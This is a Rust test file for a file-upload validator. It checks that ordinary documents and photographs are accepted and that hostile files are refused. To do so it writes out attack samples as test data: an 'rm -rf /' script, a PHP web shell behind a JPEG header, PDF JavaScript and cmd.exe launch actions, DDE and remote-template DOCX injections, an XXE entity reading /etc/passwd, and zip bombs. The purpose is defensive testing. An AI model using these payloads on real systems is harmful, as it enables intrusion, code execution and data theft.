//! Test files like those that people send, and like those of people who mean
//! harm.

use domain::application::evidence::FileType::{Docx, Heic, Jpeg, Pdf, Png};
use domain::application::evidence::content::Refusal;
use domain::application::evidence::{FileType, LARGEST_FILE};

use super::judge;

#[test]
fn what_people_send_is_taken_for_what_it_is() {
    let with_comment = joined(&jpeg(4_000, 3_000), b"trailer of a telephone");
    let files: [(Vec<u8>, FileType); 7] = [
        (pdf(""), Pdf),
        (pdf("/Encrypt 5 0 R"), Pdf),
        (jpeg(4_000, 3_000), Jpeg),
        (with_comment, Jpeg),
        (png(1_200, 800), Png),
        (heic(4_032), Heic),
        (docx(vec![stored("word/media/image1.png")]), Docx),
    ];
    for (content, file_type) in files {
        assert_eq!(judge(&content), Ok(file_type));
    }
}

#[test]
fn hostile_files_are_refused() {
    let bomb = vec![0; 50_000];
    let files: [(&str, Vec<u8>, Refusal); 36] = [
        ("nothing", Vec::new(), Refusal::Empty),
        (
            "more than the most",
            joined(
                &pdf(""),
                &vec![b'\n'; usize::try_from(LARGEST_FILE).unwrap()],
            ),
            Refusal::TooLarge,
        ),
        ("a Windows program", b"MZ\x90\0\x03".to_vec(), Refusal::Kind),
        (
            "a Linux program",
            b"\x7fELF\x02\x01".to_vec(),
            Refusal::Kind,
        ),
        (
            "a shell script",
            b"#!/bin/sh\nrm -rf /".to_vec(),
            Refusal::Kind,
        ),
        (
            "a web page",
            b"<!DOCTYPE html><script>1</script>".to_vec(),
            Refusal::Kind,
        ),
        (
            "an SVG with a script",
            b"<svg onload=\"alert(1)\"/>".to_vec(),
            Refusal::Kind,
        ),
        (
            "the EICAR test file",
            b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR".to_vec(),
            Refusal::Kind,
        ),
        (
            "an old Word or encrypted file",
            b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec(),
            Refusal::Kind,
        ),
        ("a zip", zip(&[stored("readme.txt")]), Refusal::Kind),
        (
            "a zip of nothing",
            b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec(),
            Refusal::Kind,
        ),
        (
            "a spreadsheet",
            zip(&[stored("[Content_Types].xml"), stored("xl/workbook.xml")]),
            Refusal::Kind,
        ),
        (
            "a film",
            b"\0\0\0\x18ftypisom\0\0\0\0isommp42".to_vec(),
            Refusal::Kind,
        ),
        (
            "a PDF that starts later",
            joined(b"MZ", &pdf("")),
            Refusal::Kind,
        ),
        (
            "half a PDF",
            b"%PDF-1.7\n1 0 obj".to_vec(),
            Refusal::Damaged,
        ),
        (
            "a PDF with JavaScript",
            pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
            Refusal::Active,
        ),
        (
            "a PDF with hidden JavaScript",
            pdf("/OpenAction << /S /J#61vaScript >>"),
            Refusal::Active,
        ),
        (
            "a PDF that starts a program",
            pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
            Refusal::Active,
        ),
        (
            "a PDF with a file in it",
            pdf("/Names << /EmbeddedFiles 3 0 R >>"),
            Refusal::Active,
        ),
        (
            "a PDF that is a zip",
            joined(
                &pdf(""),
                &[zip(&[stored("a")]), b"%%EOF\n".to_vec()].concat(),
            ),
            Refusal::Polyglot,
        ),
        (
            "half a photograph",
            jpeg(10, 10)[..20].to_vec(),
            Refusal::Damaged,
        ),
        (
            "a photograph in name alone",
            b"\xFF\xD8\xFF<?php system($_GET[0]);".to_vec(),
            Refusal::Damaged,
        ),
        (
            "a photograph with a zip behind it",
            joined(&jpeg(10, 10), &zip(&[stored("a.exe")])),
            Refusal::Polyglot,
        ),
        (
            "a photograph that is a PDF",
            joined(&jpeg(10, 10), &pdf("")),
            Refusal::Polyglot,
        ),
        (
            "a photograph of 4 thousand million pixels",
            jpeg(65_535, 65_535),
            Refusal::Bomb,
        ),
        (
            "an image with a file behind it",
            joined(&png(1, 1), b"MZ"),
            Refusal::Polyglot,
        ),
        (
            "an image of 4 thousand million pixels",
            png(65_535, 65_535),
            Refusal::Bomb,
        ),
        (
            "an image whose parts do not end",
            png(1, 1)[..40].to_vec(),
            Refusal::Damaged,
        ),
        (
            "a telephone's image that is a bomb",
            heic(1_000_000),
            Refusal::Bomb,
        ),
        (
            "a Word document with macros",
            docx(vec![stored("word/vbaProject.bin")]),
            Refusal::Active,
        ),
        (
            "a Word document with a program in it",
            docx(vec![stored("word/embeddings/oleObject1.bin")]),
            Refusal::Active,
        ),
        (
            "a Word document that leaves its folder",
            docx(vec![stored("../../evil.xml")]),
            Refusal::Active,
        ),
        (
            "a Word document with a password",
            docx(vec![Part("word/a.xml", b"abcdef", 6, 1, 0)]),
            Refusal::Locked,
        ),
        (
            "a zip bomb",
            docx(vec![Part("word/a.xml", &bomb, 51_000_000, 0, 8)]),
            Refusal::Bomb,
        ),
        (
            "a zip bomb of many parts",
            docx(vec![Part("word/a.xml", b"abcdef", u32::MAX, 0, 8)]),
            Refusal::Bomb,
        ),
        (
            "a zip bomb whose parts overlap",
            overlapping(),
            Refusal::Bomb,
        ),
    ];
    let refused = files
        .iter()
        .filter(|(what, content, why)| {
            let judged = judge(content);
            assert_eq!(judged, Err(*why), "{what}");
            judged.is_err()
        })
        .count();
    assert_eq!(refused, 36);
}

#[test]
fn a_part_named_twice_or_otherwise_than_in_the_directory_is_refused() {
    let twice = docx(vec![stored("word/Document.xml")]);
    assert_eq!(judge(&twice), Err(Refusal::Polyglot));
    let mut other = docx(vec![stored("word/a.xml")]);
    let place = other
        .windows(10)
        .position(|bytes| bytes == b"word/a.xml")
        .unwrap();
    other[place + 5] = b'b';
    assert_eq!(judge(&other), Err(Refusal::Polyglot));
    let prefixed = joined(b"PK\x03\x04", &docx(vec![]));
    assert_eq!(judge(&prefixed), Err(Refusal::Polyglot));
    let appended = joined(&docx(vec![]), b"more");
    assert_eq!(judge(&appended), Err(Refusal::Polyglot));
}

#[test]
fn a_pdf_that_does_something_by_itself_is_refused_wherever_it_hides_that() {
    let open = |action: &str| pdf(&format!("/OpenAction << /S /{action} >>"));
    let files = [
        ("script in an object stream", pdf_with_stream("<< /S /JavaScript /JS (1) >>")),
        ("a program in an object stream", pdf_with_stream("<< /S /Launch /F (cmd) >>")),
        ("a form that is sent", open("SubmitForm /F (https://evil.example)")),
        ("data that is fetched", open("ImportData /F (a.fdf)")),
        ("another file", open(r"GoToR /F (\\\\evil\\share\\a.pdf)")),
        ("a file within", open("GoToE /T << >>")),
        ("a website that opens by itself", open("URI /URI (https://evil.example)")),
        ("the same by a reference", joined(&pdf("/OpenAction 7 0 R"), b"7 0 obj << /S /URI /URI (https://evil.example) >> endobj\n%%EOF")),
        ("a script as a link", pdf("/A << /S /URI /URI (javascript:alert(1)) >>")),
        ("a file as a link", pdf("/A << /S /URI /URI (file:///C:/a.exe) >>")),
        ("a server's share as a link", pdf(r"/A << /S /URI /URI (\\\\evil\\share) >>")),
        ("a link by a reference", joined(&pdf("/A << /S /URI /URI 7 0 R >>"), b"7 0 obj (javascript:1) endobj\n%%EOF")),
        ("a hidden name", pdf("/OpenAction << /S /#4c#61unch >>")),
        ("the kind by a reference", joined(&pdf("/A << /S 7 0 R >>"), b"7 0 obj /JavaScript endobj\n%%EOF")),
        ("a film", pdf("/A << /S /Rendition >>")),
        ("a sound", pdf("/A << /S /Sound >>")),
        ("an action of a page", pdf("/AA << /O << /S /GoTo >> >>")),
        ("a chain of actions", pdf("/A << /S /GoTo /Next 9 0 R >>")),
        ("an attached file", pdf("/AF [<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>]")),
        ("rich media", pdf("/Annots [<< /Subtype /RichMedia >>]")),
        ("an XFA form", pdf("/AcroForm << /XFA 3 0 R >>")),
        ("printing", open("Named /N /Print")),
        ("a stream from elsewhere", joined(&pdf(""), b"7 0 obj << /F (https://evil.example) >> stream\nendstream\n%%EOF")),
        ("an older revision", joined(&open("JavaScript"), &pdf(""))),
        ("within another stream", joined(&pdf(""), b"7 0 obj << /Length 60 >> stream\n8 0 obj << /S /JavaScript >> endobj\nendstream\n%%EOF")),
    ];
    for (what, content) in files {
        assert_eq!(judge(&content), Err(Refusal::Active), "{what}");
    }
    let unreadable = joined(
        &pdf(""),
        b"7 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >> stream\nxx\nendstream\n%%EOF",
    );
    assert_eq!(judge(&unreadable), Err(Refusal::Damaged));
    let bomb = object_stream("1 0 ", &" ".repeat(140_000_000));
    assert_eq!(judge(&bomb), Err(Refusal::Bomb));
    let deep = pdf(&"[".repeat(5_000_000));
    assert_eq!(judge(&deep), Err(Refusal::Damaged));
}

#[test]
fn a_word_document_that_brings_something_in_is_refused_whatever_its_parts_are_called() {
    let relation = |kind: &str, target: &str, mode: &str| {
        format!(
            r#"<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>"#
        )
    };
    for (kind, target, mode) in [
        (
            "attachedTemplate",
            "https://evil.example/a.dotm",
            "External",
        ),
        ("oleObject", "https://evil.example/a.html!", "External"),
        ("image", "https://evil.example/a.png", "External"),
        ("hyperlink", "file://evil/share", "External"),
        ("hyperlink", "javascript:alert(1)", "External"),
        ("hyperlink", "\\\\evil\\share", "External"),
        ("aFChunk", "a.htm", "Internal"),
        ("oleObject", "media/a.png", "Internal"),
        ("vbaProject", "media/a.png", "Internal"),
        ("subDocument", "a.docx", "External"),
        ("unheardOf", "a.xml", "Internal"),
        ("frame", "https://evil.example", "External"),
    ] {
        let relations = relation(kind, target, mode);
        let file = docx(vec![text("word/_rels/document.xml.rels", &relations)]);
        assert_eq!(judge(&file), Err(Refusal::Active), "{kind} {target}");
    }
    let field = |words: &str| {
        format!(
            "<w:p><w:fldChar w:fldCharType=\"begin\"/>{words}<w:fldChar w:fldCharType=\"end\"/></w:p>"
        )
    };
    for part in [
        field("<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"),
        field("<w:instrText>D</w:instrText><w:instrText>&#68;E cmd</w:instrText>"),
        field(&field("<w:instrText>QUOTE 68 68 69</w:instrText>")),
        "<w:fldSimple w:instr=\"dde cmd\"/>".to_owned(),
        "<w:fldSimple w:instr=\"INCLUDEPICTURE \\\\evil\\a\"/>".to_owned(),
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>".to_owned(),
        "<!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;'>]><a>&c;</a>".to_owned(),
        "<v:imagedata src=\"https://evil.example/a.png\"/>".to_owned(),
    ] {
        let file = docx(vec![text("word/a.xml", &part)]);
        assert_eq!(judge(&file), Err(Refusal::Active), "{part}");
    }
    let types = CONTENT_TYPES.replace("<Types>", "<Types><Override PartName=\"/word/a.dat\" ContentType=\"application/vnd.ms-office.vbaProject\"/>");
    let renamed = zip(&[
        text("[Content_Types].xml", &types),
        text("_rels/.rels", PACKAGE),
        stored("word/document.xml"),
        stored("word/a.dat"),
    ]);
    assert_eq!(judge(&renamed), Err(Refusal::Active));
    let mut wrapped = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    wrapped.extend(b"E\0n\0c\0r\0y\0p\0t\0e\0d\0P\0a\0c\0k\0a\0g\0e\0");
    assert_eq!(judge(&wrapped), Err(Refusal::Locked));
}

#[test]
fn a_document_whose_main_part_has_another_name_is_a_word_document() {
    let types = CONTENT_TYPES.replace("document.xml", "document2.xml");
    let package = PACKAGE.replace("document.xml", "document2.xml");
    let file = zip(&[
        text("[Content_Types].xml", &types),
        text("_rels/.rels", &package),
        stored("word/document2.xml"),
    ]);
    assert_eq!(judge(&file), Ok(Docx));
}

#[test]
fn an_image_of_more_pixels_than_a_camera_takes_is_refused() {
    assert_eq!(judge(&png(14_000, 14_000)), Err(Refusal::Bomb));
    assert_eq!(judge(&jpeg(12_000, 9_000)), Ok(Jpeg));
    let whole = png(1_200, 800);
    assert_eq!(judge(&joined(&whole, &whole[whole.len() / 2..])), Ok(Png));
    assert_eq!(judge(&joined(&whole, &[0; 16])), Ok(Png));
}

/// The files of many programs, made by `tests-data/make_honest_files.py`.
#[test]
fn the_files_that_many_programs_write_are_taken() {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/tests-data/honest");
    let mut refused = Vec::new();
    let mut taken = 0;
    for file in std::fs::read_dir(folder).unwrap() {
        let path = file.unwrap().path();
        let ending = path.extension().unwrap().to_str().unwrap();
        match judge(&std::fs::read(&path).unwrap()) {
            Ok(file_type) if file_type.ending() == ending => taken += 1,
            other => refused.push(format!("{} {other:?}", path.display())),
        }
    }
    assert!(refused.is_empty(), "{}", refused.join("\n"));
    assert!(taken >= 100, "{taken}");
}

/// Changes the files of [`the_files_that_many_programs_write_are_taken`] and
/// expects no panic: `cargo test --profile local -p scan-evidence
/// no_file_of_a_program -- --ignored` runs 100,000 cases.
#[test]
#[ignore = "takes minutes"]
fn no_file_of_a_program_however_broken_stops_the_judge() {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/tests-data/honest");
    let mut files: Vec<_> = std::fs::read_dir(folder)
        .unwrap()
        .map(|file| file.unwrap().path())
        .collect();
    files.sort();
    let mut state = 0x9E37_79B9_7F4A_7C15_u64;
    let mut slowest = std::time::Duration::ZERO;
    for file in &files {
        let whole = std::fs::read(file).unwrap();
        for _ in 0..100_000 / files.len() + 1 {
            let mut broken = whole.clone();
            for _ in 0..8 {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                let place = usize::try_from(state >> 32).unwrap() % broken.len();
                broken[place] = u8::try_from(state & 0xFF).unwrap();
            }
            let began = std::time::Instant::now();
            let _ = judge(&broken);
            slowest = slowest.max(began.elapsed());
        }
    }
    assert!(slowest.as_secs() < 5, "{slowest:?}");
}

fn pdf_with_stream(object: &str) -> Vec<u8> {
    object_stream("9 0 ", object)
}

fn object_stream(header: &str, objects: &str) -> Vec<u8> {
    let packed =
        miniz_oxide::deflate::compress_to_vec_zlib(format!("{header}{objects}").as_bytes(), 6);
    let head = format!(
        "7 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >> stream\n",
        packed.len()
    );
    [
        pdf("").as_slice(),
        head.as_bytes(),
        &packed,
        b"\nendstream endobj\n%%EOF\n",
    ]
    .concat()
}

/// Judges files that are cut anywhere and have any byte changed, and expects no
/// panic: 100,000 cases.
#[test]
fn no_file_however_broken_stops_the_judge() {
    let whole = [
        pdf("/A /J#6"),
        jpeg(10, 10),
        png(10, 10),
        heic(10),
        docx(vec![stored("word/a.xml")]),
        overlapping(),
    ];
    let mut judged = 0_u32;
    let mut state = 0x9E37_79B9_7F4A_7C15_u64;
    while judged < 100_000 {
        for file in &whole {
            // The generator of Marsaglia, "Xorshift RNGs", gives the same cases
            // every time.
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let random = |from: u32| usize::try_from(state >> from & 0xFFFF).unwrap();
            let mut broken =
                file[..file.len() - random(0) % file.len() * usize::from(state & 1 == 0)].to_vec();
            if !broken.is_empty() {
                let place = random(16) % broken.len();
                broken[place] = u8::try_from(state >> 32 & 0xFF).unwrap();
                let place = random(40) % broken.len();
                broken[place] ^= 0xFF;
            }
            let _ = judge(&broken);
            judged += 1;
        }
    }
}

fn pdf(body: &str) -> Vec<u8> {
    format!("%PDF-1.7\n1 0 obj\n<< /Type /Catalog {body} >>\nendobj\nstartxref\n9\n%%EOF\n")
        .into_bytes()
}

fn jpeg(width: u16, height: u16) -> Vec<u8> {
    let mut file = vec![0xFF, 0xD8, 0xFF, 0xE0, 0, 4, 0, 0, 0xFF, 0xC0, 0, 11, 8];
    file.extend(height.to_be_bytes());
    file.extend(width.to_be_bytes());
    file.extend([
        1, 1, 0x11, 0, 0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 63, 0, 0xAB, 0xCD, 0xFF, 0xD9,
    ]);
    file
}

fn png(width: u32, height: u32) -> Vec<u8> {
    let mut file = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
    file.extend(width.to_be_bytes());
    file.extend(height.to_be_bytes());
    file.extend([8, 2, 0, 0, 0, 1, 2, 3, 4]);
    file.extend(b"\0\0\0\x02IDAT\x78\x9c\x01\x02\x03\x04");
    file.extend(b"\0\0\0\0IEND\xae\x42\x60\x82");
    file
}

fn heic(width: u32) -> Vec<u8> {
    let mut file = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic".to_vec();
    file.extend(32_u32.to_be_bytes());
    file.extend(b"meta\0\0\0\0");
    file.extend(20_u32.to_be_bytes());
    file.extend(b"ispe\0\0\0\0");
    file.extend(width.to_be_bytes());
    file.extend(3_024_u32.to_be_bytes());
    file.extend(b"\0\0\0\x0cmdat\xAA\xBB\xCC\xDD");
    file
}

/// A part of a zip: name, content as stored, the size it claims to unpack to,
/// flags, method.
struct Part<'a>(&'a str, &'a [u8], u32, u16, u16);

fn stored(name: &str) -> Part<'_> {
    Part(name, b"<xml/>", 6, 0, 0)
}

const CONTENT_TYPES: &str = r#"<Types><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;

const PACKAGE: &str = r#"<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;

fn text<'a>(name: &'a str, content: &'a str) -> Part<'a> {
    let size = u32::try_from(content.len()).unwrap();
    Part(name, content.as_bytes(), size, 0, 0)
}

fn zip(parts: &[Part<'_>]) -> Vec<u8> {
    let (mut file, mut directory) = (Vec::new(), Vec::new());
    for Part(name, content, unpacked, flags, method) in parts {
        let at = u32::try_from(file.len()).unwrap();
        let head = |into: &mut Vec<u8>| {
            into.extend(flags.to_le_bytes());
            into.extend(method.to_le_bytes());
            into.extend([0; 8]);
            into.extend(u32::try_from(content.len()).unwrap().to_le_bytes());
            into.extend(unpacked.to_le_bytes());
            into.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
            into.extend([0; 2]);
        };
        file.extend(b"PK\x03\x04\x14\0");
        head(&mut file);
        file.extend(name.as_bytes());
        file.extend(*content);
        directory.extend(b"PK\x01\x02\x14\0\x14\0");
        head(&mut directory);
        directory.extend([0; 10]);
        directory.extend(at.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let at = u32::try_from(file.len()).unwrap();
    let count = u16::try_from(parts.len()).unwrap();
    file.extend(&directory);
    file.extend(b"PK\x05\x06\0\0\0\0");
    file.extend(count.to_le_bytes());
    file.extend(count.to_le_bytes());
    file.extend(u32::try_from(directory.len()).unwrap().to_le_bytes());
    file.extend(at.to_le_bytes());
    file.extend([0; 2]);
    file
}

fn docx(more: Vec<Part<'_>>) -> Vec<u8> {
    let mut parts = vec![
        text("[Content_Types].xml", CONTENT_TYPES),
        text("_rels/.rels", PACKAGE),
        stored("word/document.xml"),
    ];
    parts.extend(more);
    zip(&parts)
}

/// Makes a document of which one part's place in the directory leads into the
/// content of another, so that both unpack the same bytes.
fn overlapping() -> Vec<u8> {
    let big = vec![b'a'; 4_000];
    let mut file = docx(vec![
        Part("word/a.xml", &big, 4_000, 0, 8),
        Part("word/b.xml", &[], 4_000, 0, 8),
    ]);
    // The header of the last part is copied into the content of the part
    // before, and the entry of the last part is led there.
    let header = file.len()
        - 22
        - 5 * 46
        - "[Content_Types].xml_rels/.relsword/document.xmlword/a.xmlword/b.xml".len()
        - 30
        - 10;
    let copy: Vec<u8> = file[header..header + 40].to_vec();
    let inside = header - 2_000;
    file[inside..inside + 40].copy_from_slice(&copy);
    let entry = file.len() - 22 - 46 - 10;
    file[entry + 42..entry + 46].copy_from_slice(&u32::try_from(inside).unwrap().to_le_bytes());
    file
}

fn joined(first: &[u8], second: &[u8]) -> Vec<u8> {
    [first, second].concat()
}
